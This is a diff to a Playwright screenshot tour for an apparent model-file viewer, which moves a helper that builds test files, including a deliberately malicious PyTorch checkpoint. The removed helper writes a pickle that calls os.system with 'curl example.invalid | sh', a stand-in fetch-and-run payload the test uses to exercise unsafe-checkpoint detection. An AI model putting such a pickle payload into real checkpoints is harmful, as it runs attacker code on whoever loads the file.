@@ -5,13 +5,15 @@
 import { readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { expect, type Page } from '@playwright/test'
-import { checkpoint, pickle, str, tensor, zip } from '../../core/formats/archives/archives.ts'
-import { commandLine, patience } from '../page/driving.ts'
-import { writeManyTensors, writeNoise } from '../page/files.ts'
+import { commandLine } from '../page/driving.ts'
+import { maliciousCheckpoint, writeManyTensors, writeNoise } from '../page/files.ts'
 import type { ServingProcess } from './serving.ts'
 import { root } from './serving.ts'
 
 export type Language = 'en' | 'zh-CN'
+
+/** Pictures may be taken while others use the machine. */
+const patience = { timeout: 300_000 }
 
 export interface Tour {
   readonly page: Page
@@ -39,31 +41,11 @@ function wordsOf(language: Language): Words {
 
 /** Files of every kind the tour opens. */
 function furnish(folder: string): void {
-  commandLine('sample', join(folder, 'model.safetensors'), '--layers', '12', '--hidden', '512')
+  commandLine('sample', join(folder, 'model.safetensors'), '--layers', '6', '--hidden', '512')
   writeNoise(join(folder, 'noise.npy'), 5120)
   writeManyTensors(join(folder, 'many.safetensors'), 9000)
   writeFileSync(join(folder, 'damaged.safetensors'), readFileSync(join(folder, 'model.safetensors')).subarray(0, 2e6))
   writeFileSync(join(folder, 'attack.pt'), maliciousCheckpoint())
-}
-
-/** Two matrices as torch.save writes them, and a call of os.system. */
-function maliciousCheckpoint(): Uint8Array {
-  const side = 96
-  const storage = new Uint8Array(Float32Array.from({ length: side * side }, (_, i) => Math.sin(i * i)).buffer)
-  const matrix = (key: string) => tensor({ shape: [side, side], strides: [side, 1], length: side * side, key })
-  const program = pickle(
-    0x80,
-    2,
-    '}(',
-    str('layers.0.q_proj.weight'),
-    matrix('0'),
-    str('layers.0.k_proj.weight'),
-    matrix('1'),
-    str('hook'),
-    "cposix\nsystem\n(S'curl example.invalid | sh'\ntR",
-    'u.',
-  )
-  return zip(checkpoint(program, { 0: storage, 1: storage }))
 }
 
 export async function walk({ page, folder, server, language, shot }: Tour): Promise<void> {
@@ -143,7 +125,7 @@ export async function walk({ page, folder, server, language, shot }: Tour): Prom
   await page.getByTestId('model-analysis').waitFor(patience)
   await expect(async () => {
     const grid = page.getByRole('grid', { name: words('map.title') })
-    expect(Number(await grid.getAttribute('data-unknown'))).toBeLessThan(70)
+    expect(Number(await grid.getAttribute('data-unknown'))).toBeLessThan(35)
   }).toPass(patience)
   await shot('model-partial')
   await exact()
